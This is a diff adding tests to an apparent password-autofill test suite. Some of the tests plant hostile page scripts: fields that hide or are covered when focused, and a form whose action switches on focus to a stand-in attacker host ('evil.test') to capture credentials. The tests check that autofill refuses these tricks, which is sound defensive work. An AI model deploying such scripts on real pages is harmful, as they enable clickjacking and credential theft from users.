@@ -48,6 +48,42 @@ describe('filling', () => {
     assert.equal(await world.valueOf('user'), 'zilla');
   });
 
+  test('waits for a field that is still on its way to its place', async () => {
+    await world.show(`${FORM}<script>globalThis.beforeFill = () => { f.style.transform = 'translateX(80px)' }</script>${COUNTED}`);
+    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
+  });
+
+  test('leaves each field, so that a check on leaving enables the control', async () => {
+    await world.show(`<form id="f"><input id="user"><input id="password"><button id="go" disabled>Log in</button></form><script>
+      const left = new Set();
+      for (const field of [user, password]) field.addEventListener('blur', () => { if (field.value) left.add(field.id); go.disabled = left.size < 2 });
+    </script>${COUNTED}`);
+    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
+    assert.deepEqual(await sent(), [['zilla', 'pass word']]);
+  });
+
+  test('writes into a read-only field that opens itself when it gets the focus', async () => {
+    await world.show(`${FORM}<script>user.readOnly = true; user.onfocus = () => { user.readOnly = false }</script>${COUNTED}`);
+    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
+  });
+
+  const WRITTEN = '<script>globalThis.written = 0; addEventListener("input", () => { written += 1 }, true)</script>';
+  const tricks = {
+    'a field that hides when it gets the focus': ['field_hidden', 'user.onfocus = () => { f.style.opacity = 0 }'],
+    'a field that is covered when it gets the focus': ['field_hidden', 'user.onfocus = () => document.body.insertAdjacentHTML("beforeend", "<b style=\'position:fixed;inset:0\'>!</b>")'],
+    'a form that changes its target when a field gets the focus': ['target_changed', 'user.onfocus = () => { f.action = "https://evil.test/" }'],
+    'a field that never rests': ['field_hidden', 'f.style.position = "relative"; let at = 0; globalThis.beforeFill = () => { at += 17; f.style.left = `${at % 400}px` }; setInterval(beforeFill, 1)'],
+    'a field that stays read-only': ['not_kept', 'password.readOnly = true'],
+  };
+  for (const [what, [result, script]] of Object.entries(tricks)) {
+    test(`writes nothing into ${what}`, async () => {
+      await world.show(`${FORM}<script>${script}</script>${COUNTED}${WRITTEN}`);
+      assert.equal(await world.fill(BOTH, {click: 'go'}), result);
+      assert.equal(await world.page.evaluate(() => globalThis.written), 0);
+      assert.deepEqual(await sent(), []);
+    });
+  }
+
   test('writes a code into boxes that move the focus themselves', async () => {
     const boxes = Array.from({length: 6}, (_, index) => `<input id="b${index}" maxlength="1">`).join('');
     await world.show(`<form>${boxes}<button id="go">Verify</button></form><script>
